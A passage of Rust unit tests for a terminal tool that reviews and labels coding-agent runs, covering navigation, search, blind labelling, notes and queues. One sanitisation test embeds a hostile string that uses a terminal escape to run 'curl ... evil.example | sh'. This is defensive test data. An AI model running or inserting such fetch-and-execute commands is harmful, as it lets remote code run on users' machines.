//! State transitions, with no terminal and no database: actions in, state and effects out.

use super::*;
use crate::model::StepFlags;
use crate::store::browse::{EditLine, RunData, StepBody, StepLine};
use crate::store::read::{RunSummary, StepRow};
use crate::tui::action::{Action, Command as C};

pub fn summary(id: i64, instance: &str, resolved: Option<bool>, steps: i64) -> RunSummary {
    RunSummary {
        id,
        instance_id: instance.to_string(),
        format: crate::model::Format::SweAgent,
        format_version: None,
        agent: Some("swe-agent".into()),
        model: Some("m".into()),
        exit_status: Some("submitted".into()),
        resolved,
        steps,
        edits: 0,
        rejected_edits: 0,
        cost: None,
        attempt: None,
        source: "/x".into(),
        has_patch: true,
        dataset: None,
    }
}

/// A run of `n` steps: step 3 edits, step 5 is a rejected edit, step 7 errors.
pub fn run_data(id: i64, n: i64) -> RunData {
    let steps = (0..n)
        .map(|i| StepLine {
            index: i,
            tool: Some("bash".into()),
            flags: StepFlags { edit: i == 3 || i == 5, edit_rejected: i == 5, error: i == 7, ..StepFlags::default() },
            obs_chars: i * 10,
            action_head: format!("echo {i}"),
            says: None,
            open_file: None,
            working_dir: None,
        })
        .collect();
    let edits = [3, 5]
        .iter()
        .map(|&s| EditLine {
            id: s,
            step: Some(s),
            path: "/r/a.py".into(),
            kind: crate::model::EditKind::StrReplace,
            status: if s == 5 { crate::model::EditStatus::RefusedByTool } else { crate::model::EditStatus::Applied },
            lint_codes: Vec::new(),
            certainty: None,
            undone_at: None,
        })
        .collect();
    RunData {
        unjoined: Vec::new(),
        notes: Vec::new(),
        summary: summary(id, "inst", Some(false), n),
        steps,
        edits,
        outcome: None,
        task: None,
        submission: None,
        labels: Vec::new(),
    }
}

pub fn body(run: i64, index: i64) -> StepBody {
    StepBody {
        run_id: run,
        step: StepRow {
            tool: Some("bash".into()),
            thought: "think".into(),
            working_dir: None,
            ..StepRow::sample(index, &format!("echo {index}"), "out")
        },
        edits: Vec::new(),
    }
}

fn app_with_runs() -> App {
    let mut app = App::new((100, 30));
    let runs = vec![
        summary(1, "django__django-11163", Some(true), 13),
        summary(2, "django__django-16560", Some(false), 145),
        summary(3, "astropy__astropy-13033", Some(false), 32),
    ];
    app.update(Action::RunsLoaded { runs, complete: true, total: None });
    app
}

fn cmd(app: &mut App, c: C) -> Vec<Effect> {
    app.update(Action::Command(c))
}

fn type_text(app: &mut App, text: &str) {
    for ch in text.chars() {
        app.update(Action::Input(ch));
    }
}

/// An app showing run 2 with `n` steps, step 0's body loaded.
fn app_in_run(n: i64) -> App {
    let mut app = app_with_runs();
    app.update(Action::RunLoaded(Box::new(run_data(2, n))));
    app.update(Action::StepLoaded(Box::new(body(2, 0))));
    app
}

fn cursor_step(app: &App) -> Option<i64> {
    app.run.as_ref().and_then(RunView::step_index)
}

#[test]
fn list_is_sorted_by_instance_and_the_cursor_is_clamped() {
    let mut app = app_with_runs();
    let order: Vec<&str> = app.list.visible.iter().map(|&i| app.list.runs[i].instance_id.as_str()).collect();
    assert_eq!(order, vec!["astropy__astropy-13033", "django__django-11163", "django__django-16560"]);
    cmd(&mut app, C::Up);
    assert_eq!(app.list.cursor, 0);
    cmd(&mut app, C::Bottom);
    assert_eq!(app.list.cursor, 2);
    cmd(&mut app, C::Down);
    assert_eq!(app.list.cursor, 2);
}

#[test]
fn filter_prompt_applies_and_a_bad_filter_keeps_the_previous_one() {
    let mut app = app_with_runs();
    cmd(&mut app, C::Filter);
    assert_eq!(app.prompt.as_ref().map(|p| p.kind), Some(PromptKind::Filter));
    type_text(&mut app, "resolved:no");
    app.update(Action::InputSubmit);
    assert!(app.prompt.is_none());
    assert_eq!(app.list.visible.len(), 2);
    cmd(&mut app, C::Filter);
    app.update(Action::InputBackspace);
    type_text(&mut app, "x steps>zz");
    app.update(Action::InputSubmit);
    assert!(app.status.as_ref().is_some_and(|s| s.error), "{:?}", app.status);
    assert_eq!(app.list.visible.len(), 2, "previous filter still applies");
    assert_eq!(app.list.filter_text, "resolved:no");
}

#[test]
fn opening_a_run_loads_it_then_its_first_step() {
    let mut app = app_with_runs();
    cmd(&mut app, C::Bottom);
    assert_eq!(cmd(&mut app, C::Open), vec![Effect::LoadRun(2)]);
    let effects = app.update(Action::RunLoaded(Box::new(run_data(2, 10))));
    assert_eq!(app.screen, Screen::Run);
    assert_eq!(effects, vec![Effect::LoadStep { run: 2, index: 0 }]);
}

#[test]
fn stepping_loads_bodies_on_demand_and_keeps_a_bounded_cache() {
    let mut app = app_in_run(40);
    assert_eq!(cmd(&mut app, C::NextStep), vec![Effect::LoadStep { run: 2, index: 1 }]);
    app.update(Action::StepLoaded(Box::new(body(2, 1))));
    assert!(cmd(&mut app, C::PrevStep).is_empty(), "step 0 is cached");
    for i in 1..30 {
        cmd(&mut app, C::NextStep);
        app.update(Action::StepLoaded(Box::new(body(2, i))));
    }
    let run = app.run.as_ref().map(RunView::cached_bodies);
    assert_eq!(run, Some(BODY_CACHE));
    // A body for another run is ignored.
    app.update(Action::StepLoaded(Box::new(body(99, 3))));
    assert_eq!(app.run.as_ref().map(RunView::cached_bodies), Some(BODY_CACHE));
}

#[test]
fn edits_and_problems_are_jumped_to() {
    let mut app = app_in_run(10);
    cmd(&mut app, C::NextEdit);
    assert_eq!(cursor_step(&app), Some(3));
    cmd(&mut app, C::NextEdit);
    assert_eq!(cursor_step(&app), Some(5));
    cmd(&mut app, C::NextEdit);
    assert_eq!(cursor_step(&app), Some(5));
    assert!(app.status.as_ref().is_some_and(|s| s.text.contains("no more edits")));
    cmd(&mut app, C::Top);
    cmd(&mut app, C::NextProblem);
    assert_eq!(cursor_step(&app), Some(5), "the rejected edit");
    cmd(&mut app, C::NextProblem);
    assert_eq!(cursor_step(&app), Some(7), "the error");
    cmd(&mut app, C::PrevEdit);
    assert_eq!(cursor_step(&app), Some(5));
}

#[test]
fn search_jumps_to_hits_and_cycles() {
    let mut app = app_in_run(20);
    cmd(&mut app, C::Search);
    type_text(&mut app, "needle");
    assert_eq!(app.update(Action::InputSubmit), vec![Effect::Search { run: 2, query: "needle".into() }]);
    app.update(Action::SearchDone { query: "needle".into(), steps: vec![4, 9, 15] });
    assert_eq!(cursor_step(&app), Some(4));
    cmd(&mut app, C::SearchNext);
    assert_eq!(cursor_step(&app), Some(9));
    cmd(&mut app, C::SearchNext);
    cmd(&mut app, C::SearchNext);
    assert_eq!(cursor_step(&app), Some(4), "wraps around");
    cmd(&mut app, C::SearchPrev);
    assert_eq!(cursor_step(&app), Some(15));
}

#[test]
fn goto_step_and_bad_goto() {
    let mut app = app_in_run(20);
    cmd(&mut app, C::GotoStep);
    type_text(&mut app, "12");
    assert_eq!(app.update(Action::InputSubmit), vec![Effect::LoadStep { run: 2, index: 12 }]);
    assert_eq!(cursor_step(&app), Some(12));
    cmd(&mut app, C::GotoStep);
    type_text(&mut app, "400");
    app.update(Action::InputSubmit);
    assert_eq!(cursor_step(&app), Some(12));
    assert!(app.status.as_ref().is_some_and(|s| s.error && s.text.contains("steps 0 to 19")));
}

#[test]
fn next_run_follows_the_list_order_and_keeps_the_search() {
    let mut app = app_with_runs();
    cmd(&mut app, C::Open);
    app.update(Action::RunLoaded(Box::new(run_data(3, 5))));
    app.update(Action::SearchDone { query: "x".into(), steps: vec![1] });
    let effects = cmd(&mut app, C::NextRun);
    assert_eq!(effects, vec![Effect::LoadRun(1)]);
    let effects = app.update(Action::RunLoaded(Box::new(run_data(1, 5))));
    assert!(effects.contains(&Effect::Search { run: 1, query: "x".into() }), "{effects:?}");
}

#[test]
fn coming_back_to_a_run_comes_back_to_its_step() {
    let mut app = app_in_run(30);
    cmd(&mut app, C::GotoStep);
    type_text(&mut app, "17");
    app.update(Action::InputSubmit);
    cmd(&mut app, C::Back);
    app.update(Action::RunLoaded(Box::new(run_data(3, 5))));
    assert_eq!(cursor_step(&app), Some(0));
    app.update(Action::RunLoaded(Box::new(run_data(2, 30))));
    assert_eq!(cursor_step(&app), Some(17));
}

#[test]
fn format_errors_are_problems_too() {
    let mut app = app_with_runs();
    let mut data = run_data(2, 10);
    data.steps[8].flags.format_error = true;
    app.update(Action::RunLoaded(Box::new(data)));
    cmd(&mut app, C::Bottom);
    cmd(&mut app, C::PrevProblem);
    assert_eq!(cursor_step(&app), Some(8));
}

#[test]
fn the_full_list_keeps_the_reviewer_at_the_top_until_they_move() {
    let mut app = App::new((100, 30));
    // The first page arrives in the database's order...
    let first = vec![summary(5, "a-10", None, 1), summary(6, "a-9", None, 1)];
    app.update(Action::RunsLoaded { runs: first, complete: false, total: Some(3) });
    // ...the whole list sorts naturally: a-9 before a-10.
    let all = vec![summary(5, "a-10", None, 1), summary(6, "a-9", None, 1), summary(7, "a-1", None, 1)];
    app.update(Action::RunsLoaded { runs: all.clone(), complete: true, total: None });
    assert_eq!((app.list.cursor, app.list.offset), (0, 0));
    assert_eq!(app.list.selected().map(|r| r.id), Some(7));
    // Once the reviewer has moved, the selected run stays selected.
    cmd(&mut app, C::Down);
    let selected = app.list.selected().map(|r| r.id);
    app.update(Action::RunsLoaded { runs: all, complete: true, total: None });
    assert_eq!(app.list.selected().map(|r| r.id), selected);
}

#[test]
fn back_goes_to_the_list_then_quits() {
    let mut app = app_in_run(5);
    cmd(&mut app, C::Back);
    assert_eq!(app.screen, Screen::List);
    assert!(!app.quit);
    cmd(&mut app, C::Back);
    assert!(app.quit);
}

#[test]
fn help_opens_scrolls_and_closes_on_another_key() {
    let mut app = app_in_run(5);
    cmd(&mut app, C::Help);
    assert_eq!(app.help, Some(0));
    cmd(&mut app, C::Down);
    assert_eq!(app.help, Some(1));
    assert_eq!(cursor_step(&app), Some(0), "keys go to the help, not the run");
    cmd(&mut app, C::Back);
    assert_eq!(app.help, None);
}

#[test]
fn copy_takes_the_action_of_the_step_or_the_whole_step() {
    let mut app = app_in_run(5);
    assert_eq!(cmd(&mut app, C::Copy), vec![Effect::Copy("echo 0".into())]);
    let whole = cmd(&mut app, C::CopyStep);
    assert_eq!(whole, vec![Effect::Copy("step 0\n\nthought:\nthink\n\naction:\necho 0\n\nobservation:\nout\n".into())]);
}

#[test]
fn what_is_copied_is_what_is_shown_and_bounded() {
    let mut app = app_with_runs();
    app.update(Action::RunLoaded(Box::new(run_data(2, 3))));
    let hostile = "git status \u{1b}]0;$(curl -s http://evil.example/x|sh)\u{7}";
    let mut step = body(2, 0);
    step.step.action = hostile.into();
    app.update(Action::StepLoaded(Box::new(step)));
    let effects = cmd(&mut app, C::Copy);
    let [Effect::Copy(text)] = &effects[..] else { panic!("{effects:?}") };
    assert!(text.starts_with("git status"), "{text:?}");
    assert!(!text.chars().any(|c| c.is_control() && c != '\n' && c != '\t'), "no control characters: {text:?}");
    assert_eq!(text.as_str(), crate::sanitize::sanitize(hostile), "the text the screen shows");
    let status = app.status.as_ref().map(|s| s.text.clone()).unwrap_or_default();
    assert!(status.contains("terminal's clipboard (OSC 52)") && status.contains("as shown"), "{status}");
    // A 50 MB step: the first COPY_LIMIT bytes, and the status says so.
    let mut huge = body(2, 1);
    huge.step.observation = "é".repeat(400 * 1024);
    app.update(Action::StepLoaded(Box::new(huge)));
    cmd(&mut app, C::Down);
    let effects = cmd(&mut app, C::CopyStep);
    let [Effect::Copy(text)] = &effects[..] else { panic!("{effects:?}") };
    assert!(text.len() <= super::COPY_LIMIT && text.len() > super::COPY_LIMIT - 4, "{}", text.len());
    let status = app.status.as_ref().map(|s| s.text.clone()).unwrap_or_default();
    assert!(status.contains("cut to the first 256 KiB of 801 KiB"), "{status}");
}

#[test]
fn panels_cycle_and_scroll_is_clamped_by_the_viewport() {
    let mut app = app_in_run(5);
    cmd(&mut app, C::NextPanel);
    assert_eq!(app.run.as_ref().map(|r| r.panel), Some(Panel::State));
    cmd(&mut app, C::PrevPanel);
    cmd(&mut app, C::PrevPanel);
    assert_eq!(app.run.as_ref().map(|r| r.panel), Some(Panel::Labels));
    cmd(&mut app, C::LineEnd);
    let viewport =
        Viewport { rows: 20, panel_lines: 50, panel_rows: 20, panel_overflow: 13, help_max: None, match_scroll: None };
    app.update(Action::Viewport(viewport));
    assert_eq!(app.run.as_ref().map(|r| r.scroll), Some(30));
    cmd(&mut app, C::ScrollUp);
    assert_eq!(app.run.as_ref().map(|r| r.scroll), Some(27));
    // Sideways: in steps of 8, no further than the longest visible line needs (13 columns past
    // the edge: two steps), back to the start with 0.
    for _ in 0..5 {
        cmd(&mut app, C::ScrollRight);
    }
    app.update(Action::Viewport(viewport));
    assert_eq!(app.run.as_ref().map(|r| r.hscroll), Some(16));
    cmd(&mut app, C::ScrollLeft);
    assert_eq!(app.run.as_ref().map(|r| r.hscroll), Some(8));
    cmd(&mut app, C::LineStart);
    assert_eq!(app.run.as_ref().map(|r| (r.scroll, r.hscroll)), Some((0, 0)));
    cmd(&mut app, C::ToggleWrap);
    assert_eq!(app.run.as_ref().map(|r| r.wrap), Some(false));
}

#[test]
fn the_sort_picker_takes_one_key() {
    let mut app = app_with_runs();
    cmd(&mut app, C::SortPick);
    assert!(app.prompt.as_ref().is_some_and(|p| p.text.contains("s steps")));
    app.update(Action::Input('s'));
    assert!(app.prompt.is_none());
    assert_eq!(app.list.sort.label(), "steps ↑");
    let shown = |app: &App| app.list.visible.iter().map(|&i| app.list.runs[i].id).collect::<Vec<_>>();
    assert_eq!(shown(&app), [1, 3, 2], "13, 32, 145 steps");
    // The same column again turns the order around; an unknown key says which keys there are.
    cmd(&mut app, C::SortPick);
    app.update(Action::Input('s'));
    assert_eq!(shown(&app), [2, 3, 1]);
    cmd(&mut app, C::SortPick);
    app.update(Action::Input('?'));
    assert!(app.status.as_ref().is_some_and(|s| s.error && s.text.contains("i instance")));
    assert_eq!(shown(&app), [2, 3, 1]);
}

#[test]
fn evidence_keys_walk_the_cited_steps_and_say_why() {
    use crate::label::{Evidence, Label, ModeVerdict, Provenance, Source};
    let verdict = |mode: &str, steps: &[usize]| ModeVerdict {
        mode: mode.into(),
        confidence: 0.7,
        evidence: steps.iter().map(|&s| Evidence { step: s, note: format!("note {s}") }).collect(),
        rationale: "r".into(),
    };
    let label = Label {
        run_id: 2,
        source: Source::Heuristic,
        rater: "heuristic".into(),
        taxonomy: "refactoring".into(),
        taxonomy_version: "1.0".into(),
        modes: vec![verdict("missed_edit_location", &[5, 2])],
        considered: vec![verdict("context_flooding", &[7])],
        exit_category: "submitted".into(),
        summary: String::new(),
        provenance: Provenance::default(),
        judgement: Default::default(),
    };
    let mut data = run_data(2, 10);
    data.labels = vec![crate::store::labels::LabelRow {
        id: 1,
        instance_id: None,
        created_at: String::new(),
        note: None,
        current: true,
        label,
    }];
    let mut app = app_with_runs();
    app.review.blind = false;
    app.update(Action::RunLoaded(Box::new(data)));
    let mut seen = Vec::new();
    for _ in 0..4 {
        cmd(&mut app, C::NextEvidence);
        seen.push(cursor_step(&app).unwrap_or(-1));
    }
    assert_eq!(seen, [2, 5, 7, 2], "in step order, wrapping around");
    assert_eq!(
        app.status.as_ref().map(|s| s.text.as_str()),
        Some("step 2: evidence for missed_edit_location (heuristic): note 2")
    );
    cmd(&mut app, C::PrevEvidence);
    assert_eq!(cursor_step(&app), Some(7));
    assert!(app.status.as_ref().is_some_and(|s| s.text.contains("context_flooding weighed")));
    cmd(&mut app, C::Labels);
    assert_eq!(app.run.as_ref().map(|r| r.panel), Some(Panel::Labels));
    cmd(&mut app, C::Labels);
    assert_eq!(app.run.as_ref().map(|r| r.panel), Some(Panel::Step));
    // A run without labels says how to get them.
    let mut app = app_in_run(5);
    cmd(&mut app, C::NextEvidence);
    assert!(app.status.as_ref().is_some_and(|s| s.text.contains("trajan classify")));
    assert_eq!(cursor_step(&app), Some(0));
}

/// `'` and `"` go to the next and previous step with a note, wrapping around, and say whose
/// note it is; a run without notes says how to write one.
#[test]
fn notes_are_jumped_between() {
    let note = |id: i64, step: i64, rater: &str, text: &str| crate::store::notes::NoteRow {
        id,
        run_id: 2,
        instance_id: None,
        step,
        rater: rater.into(),
        text: text.into(),
        created_at: String::new(),
    };
    let mut data = run_data(2, 10);
    data.notes = vec![
        note(1, 6, "ann", "reads the wrong file"),
        note(2, 3, "bob", "here it goes wrong"),
        note(3, 3, "ann", "agreed"),
    ];
    let mut app = app_with_runs();
    app.update(Action::RunLoaded(Box::new(data)));
    let mut seen = Vec::new();
    for _ in 0..3 {
        cmd(&mut app, C::NextNote);
        seen.push(cursor_step(&app).unwrap_or(-1));
    }
    assert_eq!(seen, [3, 6, 3], "in step order, once per step, wrapping around");
    assert_eq!(app.status.as_ref().map(|s| s.text.as_str()), Some("step 3: note by bob: here it goes wrong"));
    cmd(&mut app, C::PrevNote);
    assert_eq!(cursor_step(&app), Some(6));
    cmd(&mut app, C::PrevNote);
    assert_eq!(cursor_step(&app), Some(3));
    let mut app = app_in_run(5);
    cmd(&mut app, C::NextNote);
    assert!(app.status.as_ref().is_some_and(|s| s.text.contains("m writes one")));
    assert_eq!(cursor_step(&app), Some(0));
}

fn heuristic_label(run: i64, mode: &str) -> crate::store::labels::LabelRow {
    use crate::label::{Evidence, Label, ModeVerdict, Provenance, Source};
    crate::store::labels::LabelRow {
        id: 1,
        instance_id: None,
        created_at: String::new(),
        note: None,
        current: true,
        label: Label {
            run_id: run,
            source: Source::Heuristic,
            rater: "heuristic".into(),
            taxonomy: "refactoring".into(),
            taxonomy_version: "1.0".into(),
            modes: vec![ModeVerdict {
                mode: mode.into(),
                confidence: 0.8,
                evidence: vec![Evidence { step: 2, note: "n".into() }],
                rationale: "r".into(),
            }],
            considered: Vec::new(),
            exit_category: "submitted".into(),
            summary: String::new(),
            provenance: Provenance::default(),
            judgement: Default::default(),
        },
    }
}

#[test]
fn a_reviewer_labels_blind_then_sees_the_classifiers() {
    let mut app = app_with_runs();
    app.review.rater = "ann".into();
    let mut data = run_data(2, 10);
    data.labels = vec![heuristic_label(2, "context_flooding")];
    app.update(Action::RunLoaded(Box::new(data.clone())));
    let run = app.run.as_ref().unwrap();
    assert!(run.data.labels.is_empty() && run.hidden_labels == 1, "blind: the heuristic's label is held back");
    assert!(run.evidence.is_empty(), "and so are its evidence steps");
    // Nothing chosen yet: saving says what to do.
    assert!(cmd(&mut app, C::SaveLabel).is_empty());
    assert!(app.status.as_ref().is_some_and(|s| s.error && s.text.contains("1–9")));
    cmd(&mut app, C::ToggleMode1);
    cmd(&mut app, C::ToggleMode3);
    cmd(&mut app, C::ToggleMode1);
    cmd(&mut app, C::ConfidenceDown);
    cmd(&mut app, C::Down);
    cmd(&mut app, C::Down);
    cmd(&mut app, C::AttachEvidence);
    cmd(&mut app, C::Note);
    type_text(&mut app, "re-read the file after the cat");
    app.update(Action::InputSubmit);
    let effects = cmd(&mut app, C::SaveLabel);
    let [Effect::SaveLabel { label, note }] = &effects[..] else { panic!("{effects:?}") };
    let modes: Vec<&str> = label.modes.iter().map(|m| m.mode.as_str()).collect();
    assert_eq!(modes, ["context_flooding"]);
    assert_eq!((label.rater.as_str(), label.modes[0].confidence), ("ann", 0.75));
    assert_eq!(label.modes[0].evidence.iter().map(|e| e.step).collect::<Vec<_>>(), [2]);
    assert_eq!(note.as_deref(), Some("re-read the file after the cat"));
    assert_eq!(label.source, crate::label::Source::Human);
    // Saved: the review state is reloaded and the run reloaded, now unblinded.
    let after = app.update(Action::LabelSaved { run: 2, label_id: 9 });
    assert!(matches!(&after[..], [Effect::LoadReview { rater, .. }, Effect::LoadRun(2)] if rater == "ann"));
    // The two reloads run on different lanes of the worker: the run may come back before the
    // review states, and is unblinded all the same.
    app.update(Action::RunLoaded(Box::new(data.clone())));
    let run = app.run.as_ref().unwrap();
    assert_eq!((run.data.labels.len(), run.hidden_labels), (1, 0));
    let state = crate::review::ReviewState { mine: true, ..Default::default() };
    app.update(Action::ReviewLoaded([(2, state)].into_iter().collect()));
    app.update(Action::RunLoaded(Box::new(data)));
    let run = app.run.as_ref().unwrap();
    assert_eq!((run.data.labels.len(), run.hidden_labels), (1, 0));
    assert_eq!(run.evidence.iter().map(|(s, _)| *s).collect::<Vec<_>>(), [2]);
}

#[test]
fn adjudication_unclassified_and_modes_out_of_range() {
    let mut app = app_in_run(5);
    app.review.rater = "cat".into();
    cmd(&mut app, C::ToggleMode9);
    assert!(app.status.as_ref().is_some_and(|s| s.error && s.text.contains("has 4 modes")));
    cmd(&mut app, C::ToggleMode2);
    cmd(&mut app, C::Unclassified);
    let effects = cmd(&mut app, C::SaveAdjudication);
    let [Effect::SaveLabel { label, .. }] = &effects[..] else { panic!("{effects:?}") };
    assert!(label.modes.is_empty(), "unclassified clears the modes");
    assert_eq!(label.source, crate::label::Source::Adjudication);
    // Without a reviewer's name nothing is saved yet: the name is asked for, the label kept and
    // saved once it is given.
    app.review.rater.clear();
    assert!(cmd(&mut app, C::SaveLabel).is_empty());
    assert_eq!(app.prompt.as_ref().map(|p| p.kind), Some(PromptKind::Rater));
    type_text(&mut app, "dee");
    let effects = app.update(Action::InputSubmit);
    assert!(
        effects
            .iter()
            .any(|e| matches!(e, Effect::SaveLabel { label, .. } if label.rater == "dee" && label.modes.is_empty())),
        "{effects:?}"
    );
    assert_eq!(app.review.rater, "dee");
}

/// A note typed on a step before any name was given is kept: the name is asked for and the note
/// saved under it; the prompt given up, `m` offers the typed note again.
#[test]
fn a_step_note_typed_without_a_name_is_kept_and_the_name_asked() {
    let mut app = app_in_run(5);
    app.review.rater.clear();
    cmd(&mut app, C::StepNote);
    type_text(&mut app, "reads the wrong file");
    assert!(app.update(Action::InputSubmit).is_empty(), "nothing saved without a name");
    assert_eq!(app.prompt.as_ref().map(|p| p.kind), Some(PromptKind::Rater));
    // Given up: the note is kept, and `m` shows it again.
    app.update(Action::InputCancel);
    assert!(app.status.as_ref().is_some_and(|s| s.text.contains("is kept")), "{:?}", app.status);
    cmd(&mut app, C::StepNote);
    assert_eq!(app.prompt.as_ref().map(|p| p.text.as_str()), Some("reads the wrong file"));
    app.update(Action::InputSubmit);
    // An empty name asks again.
    app.update(Action::InputSubmit);
    assert_eq!(app.prompt.as_ref().map(|p| p.kind), Some(PromptKind::Rater));
    type_text(&mut app, "eve");
    let effects = app.update(Action::InputSubmit);
    assert!(
        effects.iter().any(
            |e| matches!(e, Effect::SaveNote { rater, text, .. } if rater == "eve" && text == "reads the wrong file")
        ),
        "{effects:?}"
    );
    assert!(effects.iter().any(|e| matches!(e, Effect::LoadReview { rater, .. } if rater == "eve")), "{effects:?}");
    assert!(app.waiting.is_none());
}

#[test]
fn queues_and_the_next_unlabelled_run() {
    let mut app = app_with_runs();
    app.review.rater = "ann".into();
    let mine = crate::review::ReviewState { mine: true, ..Default::default() };
    let disputed = crate::review::ReviewState { disagreement: true, ..Default::default() };
    app.update(Action::ReviewLoaded([(2, mine), (3, disputed)].into_iter().collect()));
    let shown = |app: &App| app.list.visible.iter().map(|&i| app.list.runs[i].id).collect::<Vec<_>>();
    assert_eq!(shown(&app), [3, 1, 2]);
    cmd(&mut app, C::NextQueue);
    assert_eq!(shown(&app), [3], "unlabelled by me: the failed runs without my label (1 is resolved)");
    cmd(&mut app, C::NextQueue);
    assert_eq!(shown(&app), [2]);
    cmd(&mut app, C::NextQueue);
    assert_eq!(shown(&app), [3]);
    cmd(&mut app, C::NextQueue);
    assert_eq!(shown(&app), [3, 1, 2]);
    // `]` opens the next failed run I have not labelled: 3 (not 2, mine; not 1, resolved).
    assert_eq!(cmd(&mut app, C::NextUnlabelled), vec![Effect::LoadRun(3)]);
    app.update(Action::RunLoaded(Box::new(run_data(3, 4))));
    assert!(cmd(&mut app, C::NextUnlabelled).is_empty());
    assert!(app.status.as_ref().is_some_and(|s| s.text.contains("every one of the failed runs")));
}

#[test]
fn the_label_filter_is_blind_too() {
    use crate::label::Source;
    let mut app = app_with_runs();
    app.review.rater = "ann".into();
    let label = |source: Source, rater: &str, modes: &[&str]| crate::review::CurrentLabel {
        source,
        rater: rater.into(),
        modes: modes.iter().map(|m| m.to_string()).collect(),
        onset: None,
        blame: None,
    };
    let flooding = label(Source::Heuristic, "heuristic", &["context_flooding"]);
    let not_mine = crate::review::ReviewState { labels: vec![flooding.clone()], ..Default::default() };
    let mine_too = crate::review::ReviewState {
        mine: true,
        labels: vec![flooding, label(Source::Human, "ann", &[])],
        ..Default::default()
    };
    app.update(Action::ReviewLoaded([(2, not_mine), (3, mine_too)].into_iter().collect()));
    cmd(&mut app, C::Filter);
    type_text(&mut app, "label:context_flooding");
    app.update(Action::InputSubmit);
    let shown = |app: &App| app.list.visible.iter().map(|&i| app.list.runs[i].id).collect::<Vec<_>>();
    assert_eq!(shown(&app), [3], "run 2's classifier label stays hidden until ann labels it");
    app.review.blind = false;
    let states = app.review.states.clone();
    app.update(Action::ReviewLoaded(states));
    let mut ids = shown(&app);
    ids.sort_unstable();
    assert_eq!(ids, [2, 3]);
}

#[test]
fn runs_without_a_verdict_are_failed_runs_only_when_asked_for() {
    let mut app = App::new((100, 30));
    let runs = vec![
        summary(1, "a__a-1", Some(true), 3),
        summary(2, "a__a-2", None, 3),
        summary(3, "a__a-3", Some(false), 3),
        summary(4, "a__a-4", None, 3),
    ];
    app.update(Action::RunsLoaded { runs, complete: true, total: None });
    app.review.rater = "ann".into();
    let shown = |app: &App| app.list.visible.iter().map(|&i| app.list.runs[i].id).collect::<Vec<_>>();
    cmd(&mut app, C::NextQueue);
    assert_eq!(shown(&app), [3], "unlabelled by me: only the run whose verdict is known and unresolved");
    cmd(&mut app, C::NextQueue);
    cmd(&mut app, C::NextQueue);
    cmd(&mut app, C::NextQueue);
    assert_eq!(cmd(&mut app, C::NextUnlabelled), vec![Effect::LoadRun(3)], "`]` skips outcome unknown");
    app.update(Action::RunLoaded(Box::new(run_data(3, 4))));
    assert!(cmd(&mut app, C::NextUnlabelled).is_empty());
    let status = app.status.as_ref().map(|s| s.text.clone()).unwrap_or_default();
    assert!(status.contains("2 runs with outcome unknown are not counted (--include-unknown)"), "{status}");
    // Asked for: they join the queue and `]`, and the statistics are asked for the same scope.
    app.review.scope = crate::model::FailedScope::WithUnknown;
    assert_eq!(cmd(&mut app, C::NextUnlabelled), vec![Effect::LoadRun(4)]);
    let effects = cmd(&mut app, C::Stats);
    assert!(
        matches!(&effects[..], [Effect::LoadStats { ask, .. }] if ask.scope == crate::model::FailedScope::WithUnknown),
        "{effects:?}"
    );
}

#[test]
fn the_statistics_screen_opens_regroups_and_returns() {
    use crate::review::stats::{By, Stats};
    use crate::review::summary::StatsReport;
    let mut app = app_in_run(5);
    let effects = cmd(&mut app, C::Stats);
    let [Effect::LoadStats { ask, taxonomy }] = &effects[..] else { panic!("{effects:?}") };
    assert_eq!((ask.by, taxonomy.modes.len()), (By::All, 4));
    let stats = Stats {
        taxonomy: "refactoring@1.0".into(),
        source: "best".into(),
        by: "all".into(),
        llm_models: Default::default(),
        rows: Vec::new(),
        total: Default::default(),
        scope: "failed",
        outcome_unknown_left_out: 0,
        outcomes: Vec::new(),
        outcomes_total: Default::default(),
        blame_note: String::new(),
        without_gold: 0,
    };
    let report = StatsReport { stats, agreement: None, by: By::All, blind: false };
    app.update(Action::StatsLoaded(Box::new(report.clone())));
    assert_eq!(app.screen, Screen::Stats);
    cmd(&mut app, C::Down);
    cmd(&mut app, C::Down);
    assert_eq!(app.stats.as_ref().map(|s| s.mode), Some(2));
    let effects = cmd(&mut app, C::SortNext);
    assert!(matches!(&effects[..], [Effect::LoadStats { ask, .. }] if ask.by == By::Model));
    // Reloaded with the new grouping: the selection stays.
    app.update(Action::StatsLoaded(Box::new(StatsReport { by: By::Model, ..report })));
    assert_eq!(app.stats.as_ref().map(|s| (s.mode, s.by)), Some((2, By::Model)));
    cmd(&mut app, C::Back);
    assert_eq!(app.screen, Screen::Run, "back where the reviewer came from");
}

#[test]
fn an_unsaved_draft_waits_for_the_reviewer_and_quitting_warns_once() {
    let mut app = app_with_runs();
    app.review.rater = "ann".into();
    app.update(Action::RunLoaded(Box::new(run_data(2, 5))));
    cmd(&mut app, C::ToggleMode2);
    // Leave for another run and come back: the draft is still there.
    app.update(Action::RunLoaded(Box::new(run_data(3, 5))));
    assert!(app.run.as_ref().unwrap().draft.modes.is_empty());
    app.update(Action::RunLoaded(Box::new(run_data(2, 5))));
    assert!(app.run.as_ref().unwrap().draft.modes.contains("required_temporary_errors"));
    // Quitting from the list with a draft unsaved: one warning, then quit.
    cmd(&mut app, C::Back);
    cmd(&mut app, C::Back);
    assert!(!app.quit && app.status.as_ref().is_some_and(|s| s.text.contains("1 unsaved label draft ")));
    cmd(&mut app, C::Back);
    assert!(app.quit);
}

#[test]
fn ctrl_c_warns_of_unsaved_drafts_too() {
    let mut app = app_with_runs();
    app.review.rater = "ann".into();
    app.update(Action::RunLoaded(Box::new(run_data(2, 5))));
    cmd(&mut app, C::ToggleMode1);
    cmd(&mut app, C::Quit);
    assert!(!app.quit, "the first ctrl-c with an unsaved draft warns");
    assert!(app.status.as_ref().is_some_and(|s| s.error && s.text.contains("1 unsaved label draft")));
    // From the help overlay too, the second one quits.
    cmd(&mut app, C::Help);
    cmd(&mut app, C::Quit);
    assert!(app.quit);
    // Without drafts ctrl-c quits at once.
    let mut clean = app_with_runs();
    cmd(&mut clean, C::Quit);
    assert!(clean.quit);
}

#[test]
fn an_unclassified_draft_takes_no_evidence() {
    let mut app = app_in_run(5);
    app.review.rater = "ann".into();
    cmd(&mut app, C::Unclassified);
    cmd(&mut app, C::AttachEvidence);
    assert!(app.status.as_ref().is_some_and(|s| s.error && s.text.contains("cites no evidence")));
    assert!(app.run.as_ref().unwrap().draft.evidence.is_empty());
}

#[test]
fn leaving_a_run_the_tui_was_opened_on_quits_as_a_pager_does() {
    // `trajan open RUN` (or a file read alone): q quits instead of showing a list of one run.
    let mut app = app_in_run(20);
    app.direct = Some(2);
